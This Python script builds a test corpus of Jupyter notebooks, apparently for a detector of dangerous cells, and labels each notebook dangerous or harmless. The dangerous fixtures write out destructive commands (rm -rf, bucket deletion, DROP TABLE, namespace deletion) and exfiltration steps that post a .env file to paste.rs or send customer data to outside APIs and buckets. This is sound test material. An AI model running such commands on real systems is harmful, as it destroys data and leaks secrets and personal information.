"""Write the third, independent set of corpus notebooks (r3_*.ipynb) with nbformat.

    python tests/corpus/build_notebooks_r3.py

Same conventions as build_notebooks.py: annotations (`# expect: CATEGORY`,
`-- expect: CATEGORY` in SQL cells) sit inside the cell, on the line above the
dangerous line; output is deterministic (no execution counts, fixed cell ids).
"""
from __future__ import annotations

from notebook_builder import BASH, PY, SQL, NotebookSet, code, md  # noqa: F401 - kernels used by some cells

NOTEBOOKS = NotebookSet('r3_', 'r3c')
nb = NOTEBOOKS.add


# ---------------------------------------------------------------- dangerous

@nb("dangerous", "bang_reset_raw_data")
def _():
    return [
        md("# Re-ingest\nThe raw folder has half-written files from the failed run; clear it and re-download."),
        code("""
import os
RAW = "data/raw"
print(len(os.listdir(RAW)), "files in", RAW)
"""),
        code("""
# expect: destructive
!rm -rf data/raw/*
!mkdir -p data/raw
"""),
        code("""
!aws s3 cp s3://acme-public-datasets/reviews/2024/ data/raw/ --recursive
"""),
    ]


@nb("dangerous", "bash_cell_cleanup_bucket")
def _():
    return [
        md("## Storage cleanup\nOld experiment outputs are costing us money."),
        code("""
%%bash
gsutil du -sh gs://acme-ml-experiments/
gsutil ls gs://acme-ml-experiments/ | head
"""),
        code("""
%%bash
set -e
for exp in exp-2023-q1 exp-2023-q2 exp-2023-q3; do
  # expect: destructive
  gsutil -m rm -r "gs://acme-ml-experiments/$exp"
done
# expect: destructive
rm -rf ~/experiments/checkpoints
"""),
    ]


@nb("dangerous", "sql_magic_drop_old_tables")
def _():
    return [
        code("""
%load_ext sql
%sql postgresql://analyst@warehouse.internal/analytics
"""),
        code("""
%sql SELECT table_name FROM information_schema.tables WHERE table_schema = 'analytics' AND table_name LIKE 'events_2022%'
"""),
        code("""
# expect: destructive
%sql DROP TABLE analytics.events_2022_q1, analytics.events_2022_q2
"""),
        code("""
%%sql
-- expect: destructive
DELETE FROM analytics.user_sessions;
SELECT count(*) FROM analytics.user_sessions;
"""),
    ]


@nb("dangerous", "churn_share_with_consultant")
def _():
    return [
        md("# Churn drivers\nPull the customer table, compute a few features, then send the sample to the consultant's API."),
        code("""
import os
import pandas as pd
from sqlalchemy import create_engine

engine = create_engine(os.environ["WAREHOUSE_URL"])
customers = pd.read_sql("SELECT id, email, name, plan, mrr, last_login_at, churned FROM core.customers", engine)
customers.shape
"""),
        code("""
customers["days_since_login"] = (pd.Timestamp.now() - pd.to_datetime(customers.last_login_at)).dt.days
summary = customers.groupby("plan")[["mrr", "days_since_login"]].mean()
summary
"""),
        code("""
sample = customers.sample(5000, random_state=1)
sample.head()
"""),
        code("""
import requests
# expect: exfiltration
resp = requests.post(
    "https://api.insightful-consulting.io/v1/datasets",
    json={"name": "acme_churn", "rows": sample.to_dict(orient="records")},
    timeout=60,
)
resp.json()
"""),
    ]


@nb("dangerous", "writefile_cleanup_script")
def _():
    return [
        md("Write a small cleanup script for the shared workspace and run it."),
        code("""
%%writefile cleanup.sh
#!/bin/bash
set -e
rm -rf /mnt/shared/team-data/old_runs
rm -rf /mnt/shared/team-data/cache
echo "workspace cleaned"
"""),
        code("""
# expect: destructive
!bash cleanup.sh
"""),
    ]


@nb("dangerous", "mongo_reset_events")
def _():
    return [
        code("""
from pymongo import MongoClient
client = MongoClient("mongodb://analytics-mongo.internal:27017")
db = client.tracking
db.list_collection_names()
"""),
        code("""
db.events.estimated_document_count()
"""),
        code("""
# start over with the new schema
# expect: destructive
db.drop_collection("events")
# expect: destructive
db.sessions.delete_many({})
"""),
    ]


@nb("dangerous", "env_debug_paste")
def _():
    return [
        md("Debugging the connection error: share the config with the team."),
        code("""
from pathlib import Path
env_text = Path(".env").read_text()
print(len(env_text.splitlines()), "lines")
"""),
        code("""
import requests
# expect: exfiltration
r = requests.post("https://paste.rs/", data=env_text)
print("shared at", r.text)
"""),
    ]


@nb("dangerous", "upload_features_vendor_bucket")
def _():
    return [
        code("""
import boto3
import pandas as pd
features = pd.read_parquet("s3://acme-ml/features/customers_v4.parquet")
features.to_parquet("customers_features.parquet")
"""),
        code("""
s3 = boto3.client("s3")
# expect: exfiltration
s3.upload_file("customers_features.parquet", "scoring-vendor-inbox", "acme/customers_features.parquet")
"""),
    ]


@nb("dangerous", "forecast_replace_table")
def _():
    return [
        code("""
import os
import pandas as pd
from sqlalchemy import create_engine
engine = create_engine(os.environ["DB_URL"])
history = pd.read_sql_table("sales_daily", engine)
"""),
        code("""
from statsmodels.tsa.holtwinters import ExponentialSmoothing
model = ExponentialSmoothing(history.set_index("day")["units"], seasonal="add", seasonal_periods=7).fit()
forecast = model.forecast(28).rename("units").reset_index().rename(columns={"index": "day"})
"""),
        code("""
# expect: destructive
forecast.to_sql("sales_daily", engine, if_exists="replace", index=False)
"""),
    ]


@nb("dangerous", "bash_k8s_reset_namespace")
def _():
    return [
        code("""
!kubectl get pods -n feature-store
"""),
        code("""
%%bash
# the feature store pods are stuck; nuke and redeploy
# expect: destructive
kubectl delete namespace feature-store
kubectl create namespace feature-store
helm install feast ./charts/feast -n feature-store
"""),
    ]


# ---------------------------------------------------------------- harmless

@nb("harmless", "housing_eda")
def _():
    return [
        md("# Housing prices EDA"),
        code("""
import matplotlib.pyplot as plt
import numpy as np
import pandas as pd
import seaborn as sns

df = pd.read_csv("data/housing.csv")
df.info()
"""),
        code("""
df = df.drop(columns=["Id", "Alley", "PoolQC"])
df.drop_duplicates(inplace=True)
price = df.pop("SalePrice")
del df["MiscFeature"]
df.isna().mean().sort_values(ascending=False).head(10)
"""),
        code("""
numeric = df.select_dtypes("number").columns.tolist()
numeric.remove("MSSubClass")
fig, ax = plt.subplots(figsize=(8, 5))
sns.histplot(np.log1p(price), ax=ax)
ax.set_title("log(1 + SalePrice)")
fig.savefig("figures/price_hist.png", dpi=120)
"""),
        code("""
corr = df[numeric].assign(SalePrice=price).corr()["SalePrice"].sort_values()
corr.plot.barh(figsize=(6, 12))
plt.savefig("figures/correlations.png", bbox_inches="tight")
"""),
    ]


@nb("harmless", "train_classifier_joblib")
def _():
    return [
        code("""
import joblib
import pandas as pd
from sklearn.compose import ColumnTransformer
from sklearn.linear_model import LogisticRegression
from sklearn.model_selection import cross_val_score
from sklearn.pipeline import Pipeline
from sklearn.preprocessing import OneHotEncoder, StandardScaler

df = pd.read_parquet("data/processed/leads.parquet")
y = df.pop("converted")
cat_cols = ["source", "country"]
num_cols = [c for c in df.columns if c not in cat_cols]
"""),
        code("""
pipe = Pipeline([
    ("prep", ColumnTransformer([("cat", OneHotEncoder(handle_unknown="ignore"), cat_cols),
                                ("num", StandardScaler(), num_cols)])),
    ("clf", LogisticRegression(max_iter=1000)),
])
scores = cross_val_score(pipe, df, y, cv=5, scoring="roc_auc")
scores.mean()
"""),
        code("""
pipe.fit(df, y)
joblib.dump(pipe, "models/lead_scoring_v2.joblib")
pd.Series(scores).to_csv("models/lead_scoring_v2_cv.csv", index=False)
"""),
    ]


@nb("harmless", "download_open_data")
def _():
    return [
        md("Download the public air-quality dataset and the station list."),
        code("""
import io
import zipfile
from pathlib import Path

import requests

DATA = Path("data/external")
DATA.mkdir(parents=True, exist_ok=True)
URL = "https://archive.ics.uci.edu/static/public/360/air+quality.zip"
resp = requests.get(URL, timeout=60)
resp.raise_for_status()
zipfile.ZipFile(io.BytesIO(resp.content)).extractall(DATA)
sorted(p.name for p in DATA.iterdir())
"""),
        code("""
import pandas as pd
stations = pd.read_json("https://api.openaq.org/v2/locations?limit=100&country=IT")
stations.head()
"""),
    ]


@nb("harmless", "sql_magic_scratch_report")
def _():
    return [
        code("""
%load_ext sql
%sql duckdb:///analysis.duckdb
"""),
        code("""
%%sql
CREATE TEMPORARY TABLE recent AS
SELECT * FROM read_parquet('data/orders/*.parquet') WHERE order_date >= DATE '2024-01-01';
SELECT status, count(*) AS n FROM recent GROUP BY status ORDER BY n DESC;
"""),
        code("""
%sql SELECT customer_id, sum(total) AS spend FROM recent GROUP BY 1 ORDER BY 2 DESC LIMIT 20
"""),
        code("""
%%sql
DROP TABLE IF EXISTS recent;
DROP TABLE IF EXISTS tmp_spend;
"""),
    ]


@nb("harmless", "bang_setup_env")
def _():
    return [
        code("""
!pip install -q polars==0.20.31 pyarrow lightgbm
!python --version
"""),
        code("""
!git clone --depth 1 https://github.com/acme-oss/sample-datasets.git external/sample-datasets
!ls -la external/sample-datasets
!mkdir -p outputs figures
"""),
        code("""
!nvidia-smi || echo "no GPU"
!df -h . | tail -1
"""),
    ]


@nb("harmless", "tempdir_image_experiments")
def _():
    return [
        code("""
import shutil
import tempfile
from pathlib import Path

from PIL import Image

work = Path(tempfile.mkdtemp(prefix="thumbs-"))
src = sorted(Path("data/images").glob("*.jpg"))[:50]
"""),
        code("""
for p in src:
    im = Image.open(p)
    im.thumbnail((256, 256))
    im.save(work / p.name)
sizes = [f.stat().st_size for f in work.iterdir()]
sum(sizes) / len(sizes)
"""),
        code("""
for f in work.glob("*.jpg"):
    f.unlink()
shutil.rmtree(work)
"""),
    ]


@nb("harmless", "cleanup_plan_review")
def _():
    return [
        md("# Legacy table cleanup plan\nThis notebook only *lists* what would be dropped; the DBA runs the SQL after review.\n\n"
           "```sql\nDROP TABLE legacy.orders_2019;\n```"),
        code("""
import pandas as pd
unused = pd.read_csv("reports/unused_tables.csv")
unused = unused[unused.last_read_days > 365]
unused[["schema", "table", "size_gb"]]
"""),
        code("""
statements = [f"DROP TABLE {r.schema}.{r.table};" for r in unused.itertuples()]
print("\\n".join(statements))
print(f"-- would free {unused.size_gb.sum():.1f} GB; rm -rf of the exports dir is a separate ticket")
"""),
    ]


@nb("harmless", "bash_magic_repo_stats")
def _():
    return [
        code("""
%%bash
git log --since='3 months ago' --pretty=format:'%an' | sort | uniq -c | sort -rn | head
"""),
        code("""
%%bash
wc -l $(git ls-files '*.py') | tail -1
du -sh data/ models/ 2>/dev/null
grep -rn "TODO" src/ | wc -l
"""),
    ]


@nb("harmless", "spark_scratch_exploration")
def _():
    return [
        code("""
from pyspark.sql import SparkSession, functions as F
spark = SparkSession.builder.getOrCreate()
orders = spark.table("sales.orders")
orders.createOrReplaceTempView("o")
"""),
        code("""
top = spark.sql("SELECT customer_id, sum(amount) AS spend FROM o GROUP BY 1 ORDER BY 2 DESC LIMIT 100")
top.show(10)
"""),
        code("""
top.write.mode("overwrite").parquet("/tmp/exploration/top_customers")
spark.read.parquet("/tmp/exploration/top_customers").count()
"""),
    ]


@nb("harmless", "writefile_helpers")
def _():
    return [
        code('''
%%writefile src/features.py
import pandas as pd


def add_date_parts(df: pd.DataFrame, col: str) -> pd.DataFrame:
    """Add year/month/weekday columns; drops the raw column afterwards."""
    d = pd.to_datetime(df[col])
    out = df.assign(**{f"{col}_year": d.dt.year, f"{col}_month": d.dt.month, f"{col}_dow": d.dt.dayofweek})
    return out.drop(columns=[col])
'''),
        code("""
%load_ext autoreload
%autoreload 2
import pandas as pd
from src.features import add_date_parts
add_date_parts(pd.DataFrame({"ts": ["2024-01-05", "2024-02-10"]}), "ts")
"""),
    ]


if __name__ == "__main__":
    NOTEBOOKS.main()
